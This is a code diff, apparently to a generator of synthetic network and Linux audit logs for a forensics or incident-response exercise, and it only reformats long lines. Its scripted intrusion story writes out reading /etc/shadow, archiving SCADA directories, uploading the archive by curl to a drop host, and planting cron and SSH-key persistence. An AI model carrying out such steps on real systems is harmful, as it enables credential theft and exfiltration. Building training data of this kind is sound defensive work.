@@ -375,9 +375,7 @@ def any_value(_: Host, rng: random.Random) -> Fields:
 def any_question(host: Host, rng: random.Random) -> Fields:
     """Return an ordinary DNS question; hosts of the control network ask for internal names only."""
     name = rng.choice(WEB_NAMES if host is OFFICE else NAMES)
-    return asked(
-        EDGE if host is OFFICE else SVCHOST, name, "::ffff:10.20.1.30;" if name in NAMES else "::ffff:192.0.2.34;"
-    )
+    return asked(EDGE if host is OFFICE else SVCHOST, name, "::ffff:10.20.1.30;" if name in NAMES else "::ffff:192.0.2.34;")
 
 
 def any_logon(host: Host, rng: random.Random) -> Fields:
@@ -468,9 +466,7 @@ class Audit:
         """Add an event of one or more records; `{id}` stands for its time and number."""
         self.events.append((when, list(records)))
 
-    def execute(
-        self, when: datetime, image: str, *args: str, cwd: str = "/root", login: int = 1001, uid: int = 0
-    ) -> None:
+    def execute(self, when: datetime, image: str, *args: str, cwd: str = "/root", login: int = 1001, uid: int = 0) -> None:
         """Add an execution: SYSCALL, EXECVE, CWD, PATH, PROCTITLE."""
         number = int(hashlib.sha256(f"{when}{image}".encode()).hexdigest()[:6], 16)
         terminal = "(none) ses=4294967295" if login == 4294967295 else "pts1 ses=31"
@@ -540,16 +536,12 @@ def account_record(kind: str, operation: str, who: str, program: str, address: s
 def audit_story(audit: Audit) -> None:
     """Add what the intruder did on the historian, until the audit was switched off."""
     sshd, who = "/usr/sbin/sshd", 'acct="hist_ops"'
-    audit.add(
-        at("07:34:20"), account_record("USER_AUTH", "PAM:authentication grantors=pam_unix", who, sshd, JUMP.address)
-    )
+    audit.add(at("07:34:20"), account_record("USER_AUTH", "PAM:authentication grantors=pam_unix", who, sshd, JUMP.address))
     audit.add(at("07:34:20"), account_record("CRED_ACQ", "PAM:setcred grantors=pam_unix", who, sshd, JUMP.address))
     audit.add(at("07:34:21"), account_record("USER_LOGIN", "login", "id=1001", sshd, JUMP.address))
     audit.execute(at("07:36:02"), "/usr/bin/id", "id", cwd="/home/hist_ops", uid=1001)
     audit.execute(at("07:40:15"), "/usr/bin/cat", "cat", "/etc/shadow")
-    audit.execute(
-        at("07:42:31"), "/usr/bin/tar", "tar", "czf", "/dev/shm/.t.tgz", "/srv/historian/projects", "/srv/scada"
-    )
+    audit.execute(at("07:42:31"), "/usr/bin/tar", "tar", "czf", "/dev/shm/.t.tgz", "/srv/historian/projects", "/srv/scada")
     audit.execute(at("07:44:08"), "/usr/bin/curl", "curl", "-s", "-T", "/dev/shm/.t.tgz", f"https://{DROP_IP}/u/")
     audit.create(at("07:46:50"), "/usr/bin/bash", "/etc/cron.d/sysstat-2")
     audit.create(at("07:48:12"), "/usr/bin/bash", "/home/hist_ops/.ssh/authorized_keys")
@@ -583,9 +575,7 @@ def ordinary_audit(audit: Audit, rng: random.Random) -> None:
         audit.execute(when, image, *args, cwd="/", login=4294967295, uid=rng.choice((0, 998)))
     for hour in range(-4, 8):
         when = DAY + timedelta(hours=hour, minutes=17, seconds=1)
-        audit.add(
-            when, account_record("CRED_ACQ", "PAM:setcred grantors=pam_permit", 'acct="root"', "/usr/sbin/cron", "?")
-        )
+        audit.add(when, account_record("CRED_ACQ", "PAM:setcred grantors=pam_permit", 'acct="root"', "/usr/sbin/cron", "?"))
         audit.add(
             when,
             account_record("USER_START", "PAM:session_open grantors=pam_limits", 'acct="root"', "/usr/sbin/cron", "?"),
